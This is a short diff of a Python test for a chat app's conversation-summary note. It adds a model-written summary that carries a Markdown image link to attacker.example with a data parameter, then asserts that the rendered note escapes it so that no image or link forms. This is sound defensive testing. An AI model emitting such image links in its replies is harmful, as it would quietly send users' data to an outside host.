@@ -112,7 +112,8 @@ def test_the_older_messages_note_opens_the_summary_as_text():
 
     conv = _conv("first <b>question</b>?", "second?")
     conv.turns[-1].dropped_turns = [conv.turns[0].id]
-    conv.summary = "User asked: first <b>question</b>?"
+    conv.summary = "User asked: first <b>question</b>? ![x](https://attacker.example/?d=1)"  # the model wrote it
     note = context_note(conv)
     assert "1 older exchange" in note and "<details" in note
-    assert "&lt;b&gt;question&lt;/b&gt;" in note and "<b>question</b>" not in note
+    assert "&lt;b&gt;question&lt;\\/b&gt;" in note and "<b>question</b>" not in note  # literal Markdown text
+    assert "![x](" not in note and "https://" not in note  # no image, no link can form
